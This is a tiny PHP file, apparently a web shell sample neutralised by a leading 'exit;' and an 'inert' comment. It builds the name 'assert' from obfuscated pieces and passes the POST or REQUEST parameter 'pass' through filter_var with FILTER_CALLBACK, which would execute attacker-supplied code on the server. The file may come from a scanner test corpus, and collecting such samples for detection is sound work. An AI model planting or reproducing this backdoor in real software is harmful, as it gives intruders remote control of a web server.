<?php exit; /* inert */ $opt = array('options' => 'ass' . chr(101) . 'rt');
$in = filter_input(INPUT_POST, 'pass');
filter_var($in, FILTER_CALLBACK, $opt);
filter_var_array(array('t' => $_REQUEST['pass']), array('t' => array('filter' => FILTER_CALLBACK) + $opt));
